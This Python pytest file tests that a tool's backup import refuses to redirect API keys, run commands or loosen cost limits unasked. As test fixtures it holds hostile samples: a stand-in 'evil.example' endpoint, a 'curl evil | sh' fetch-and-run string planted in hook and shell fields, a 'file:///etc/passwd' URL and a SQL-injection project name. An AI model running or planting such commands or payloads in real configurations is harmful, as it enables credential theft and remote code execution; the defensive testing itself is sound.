"""I2: a file that somebody else wrote sends no key elsewhere, brings nothing to run, and loosens no limit unasked."""

from pathlib import Path
from typing import Any

import pytest
from transfer_scenes import (
    DOLLAR,
    NOW,
    import_into,
    plan_of,
    project,
    provider,
    rows_of,
    rule,
    usage_row,
    version_2,
)

from conduit_tui.domain.transfers import ImportPlan
from conduit_tui.transfer.errors import TransferError

HOME = "https://openrouter.ai/api/v1"
EVIL = "https://evil.example/v1"


def times(**row: Any) -> dict[str, Any]:
    return {"created_at": NOW, "updated_at": NOW, **row}


@pytest.fixture
def known(database: Path) -> Path:
    """A box with a provider, a limit and a strict overall budget."""
    overall = {"project": "", "model": "", "agent_type": "", "daily_nanodollars": 40 * DOLLAR}
    import_into(
        database,
        version_2(
            projects=[project("default", costLimits={"daily": 10, "monthly": None})],
            providers=[times(**provider("openrouter", HOME))],
            budgets=[times(**overall, mode="strict", zone="UTC", unpriced="block")],
        ),
    )
    return database


def stored_provider(database: Path, name: str = "openrouter") -> tuple[str, str, str]:
    sql = "SELECT body ->> 'base_url', body ->> '$.key.kind', body ->> '$.key.reference' FROM providers WHERE name = ?"
    (row,) = rows_of(database, sql, name)
    return row


def caps(database: Path) -> dict[str, tuple[Any, ...]]:
    sql = "SELECT project, daily_nanodollars, monthly_nanodollars, mode, unpriced FROM budgets"
    return {scope: tuple(rest) for scope, *rest in rows_of(database, sql)}


def ids(plan: ImportPlan) -> list[str]:
    return [question.id for question in plan.questions]


def test_a_known_provider_stays_where_it_is_unless_approved(known: Path) -> None:
    file = version_2(providers=[times(**provider("openrouter", EVIL))])
    plan = plan_of(known, file)
    assert ids(plan) == ["providers:openrouter"]
    assert "https://evil.example" in plan.questions[0].text
    import_into(known, file, approve=False)
    assert stored_provider(known) == (HOME, "env", "EXAMPLE_KEY")


@pytest.mark.parametrize("kind", ["env", "pass-through"])
def test_even_then_its_key_does_not_follow(known: Path, kind: str) -> None:
    key = {"kind": kind, "reference": "EXAMPLE_KEY" if kind == "env" else ""}
    import_into(known, version_2(providers=[times(**provider("openrouter", EVIL) | {"key": key})]))
    assert stored_provider(known) == (EVIL, "none", "")


def test_a_new_provider_cannot_borrow_the_key_of_another_origin(known: Path) -> None:
    import_into(known, version_2(providers=[times(**provider("harmless", EVIL))]))
    assert stored_provider(known, "harmless") == (EVIL, "none", "")
    assert stored_provider(known)[1:] == ("env", "EXAMPLE_KEY")


@pytest.mark.parametrize("key", [{"kind": "env", "reference": "AWS_SECRET_ACCESS_KEY"}, {"kind": "pass-through"}])
def test_a_key_that_is_new_goes_nowhere_unasked(known: Path, key: dict[str, str]) -> None:
    file = version_2(providers=[times(**provider("new", EVIL) | {"key": key})])
    import_into(known, file, approve=False)
    assert stored_provider(known, "new") == (EVIL, "none", "")
    import_into(known, file)
    assert stored_provider(known, "new")[1] == key["kind"]


def test_limits_fall_silently_and_rise_only_when_approved(known: Path) -> None:
    lower = version_2(projects=[project("default", costLimits={"daily": 5, "monthly": 50})])
    assert ids(plan_of(known, lower)) == []
    import_into(known, lower, approve=False)
    assert caps(known)["default"][:2] == (5 * DOLLAR, 50 * DOLLAR)
    higher = version_2(projects=[project("default", costLimits={"daily": None, "monthly": 40})])
    assert ids(plan_of(known, higher)) == ["caps:project default"]
    import_into(known, higher, approve=False)
    assert caps(known)["default"][:2] == (5 * DOLLAR, 40 * DOLLAR)
    import_into(known, higher)
    assert caps(known)["default"][:2] == (None, 40 * DOLLAR)


def test_every_other_way_to_loosen_a_limit_is_asked_too(known: Path) -> None:
    overall = {"project": "", "model": "", "agent_type": "", "daily_nanodollars": 40 * DOLLAR, "zone": "Asia/Tokyo"}
    raised = {"raised_daily_nanodollars": 900 * DOLLAR, "raised_until": NOW * 2}
    price = {"provider": "", "model": "*", "free": True, "input": 0, "output": 0, "updated_at": NOW}
    file = version_2(
        projects=[project("default", enabled=False, features={"costTracking": False}, costLimits={"daily": 10})],
        budgets=[times(**overall, **raised, mode="balanced", unpriced="charge")],
        prices=[price],
    )
    plan = plan_of(known, file)
    assert ids(plan) == ["caps:overall", "caps:project default off", "caps:price *"]
    before = caps(known)
    import_into(known, file, approve=False)
    assert (
        caps(known)
        == before
        == {"": (40 * DOLLAR, None, "strict", "block"), "default": (10 * DOLLAR, None, "balanced", "charge")}
    )
    assert rows_of(known, "SELECT config ->> 'enabled', config ->> '$.features.costTracking' FROM projects") == [(1, 1)]
    assert rows_of(known, "SELECT zone, raised_until FROM budgets WHERE project = ''") == [("UTC", None)]
    assert rows_of(known, "SELECT * FROM price_overrides") == []


RUN = ["args", "env", "hooks", "command", "mcpServers", "api_key_helper", "statusLine", "Shell"]


@pytest.mark.parametrize("name", RUN)
def test_nothing_that_is_run_comes_in(known: Path, name: str) -> None:
    bad = {name: ["curl evil | sh"]}
    for place, file in {
        f"file.{name}": version_2(**bad),
        f"projects.0.{name}": version_2(projects=[project("default") | bad]),
        f"projects.0.config.claude.{name}": version_2(projects=[project("default", claude=bad)]),
        f"projects.0.config.routingRules.0.{name}": version_2(
            projects=[project("default", routingRules=[rule(**bad)])]
        ),
        f"providers.0.{name}": version_2(providers=[times(**provider("p", HOME)) | bad]),
        f"agents.0.{name}": {"version": "1.0", "projects": [], "agents": [{"id": "a", "project_id": "p", **bad}]},
    }.items():
        with pytest.raises(TransferError) as caught:
            plan_of(known, file)
        assert caught.value.place == place


def test_keys_are_refused_and_not_repeated(known: Path) -> None:
    canary = "sk-canary-0123456789"
    for field in (
        {"api_key": canary},
        {"key": {"kind": "env", "reference": canary}},
        {"key": {"kind": "raw", "reference": canary}},
    ):
        with pytest.raises(TransferError) as caught:
            plan_of(known, version_2(providers=[times(**provider("p", HOME)) | field]))
        assert canary not in str(caught.value)


@pytest.mark.parametrize(
    ("file", "said"),
    [
        ({"version": "3"}, "Unsupported backup version: 3"),
        ({"version": 2}, "Unsupported backup version: 2"),
        ({"version": "1.0", "format": "conduit-tui"}, "Unsupported backup version: 1.0"),
        (version_2(providers=[times(**provider("anthropic", HOME))]), "built in"),
        (version_2(providers=[times(**provider("p", "file:///etc/passwd"))]), "base URL"),
        (version_2(projects=[project("Robert'); DROP TABLE projects;--")]), "projects.0.name"),
        (version_2(projects=[project("a"), project("a")]), "two projects"),
        (version_2(projects=[project("a", routingRules=[rule(conditions={"type": "XOR"})])]), "routingRules"),
        (version_2(projects=[project("a", routingRules=[rule(targetModel="")])]), "target model"),
        (version_2(projects=[project("a", costLimits={"daily": -1})]), "Daily cost limit must be positive"),
        (version_2(usage={}), "usage: must be a list"),
        (version_2(usage=[{"id": 1}]), "usage.0.exchange_id: is missing"),
        (version_2(windows=[{"id": 2**62}]), "windows.0.id"),
        ({"version": "1.0", "usage": [{"id": "u", "cost": -1, "created_at": 1}]}, "usage.0.cost"),
        ({"version": "1.0", "usage": [{"id": "u", "cost": 1, "created_at": "soon"}]}, "usage.0.created_at"),
    ],
)  # fmt: skip
def test_what_cannot_be_is_named(known: Path, file: dict[str, Any], said: str) -> None:
    with pytest.raises(TransferError) as caught:
        plan_of(known, file)
    assert said in str(caught.value)


def test_an_id_at_the_end_of_all_ids_does_not_fill_the_table(known: Path) -> None:
    row = {**usage_row(1)._asdict(), "metadata": {}, "id": 2**53}
    import_into(known, version_2(usage=[row]))
    import_into(known, version_2(usage=[{**row, "exchange_id": "next", "id": 2**53}]))
    assert rows_of(known, "SELECT id FROM usage ORDER BY id") == [(2**53,), (2**53 + 1,)]


def test_a_change_of_the_file_after_its_difference_is_refused(known: Path) -> None:
    import asyncio

    from transfer_scenes import WORDS

    from conduit_tui.store.sqlite import SqliteStore
    from conduit_tui.transfer import importing

    path = known.with_suffix(".given.json")
    plan = plan_of(known, version_2(projects=[project("default", costLimits={"daily": 1})]))
    path.write_text(path.read_text().replace('"daily": 1', '"daily": 2'))

    async def run() -> None:
        store = await SqliteStore.open(known)
        try:
            await importing.apply(
                store, importing.Given(path, known.parent), WORDS, digest=plan.digest, approved=[]
            )  # fmt: skip
        finally:
            await store.close()

    with pytest.raises(TransferError, match="changed since"):
        asyncio.run(run())
    assert caps(known)["default"][0] == 10 * DOLLAR
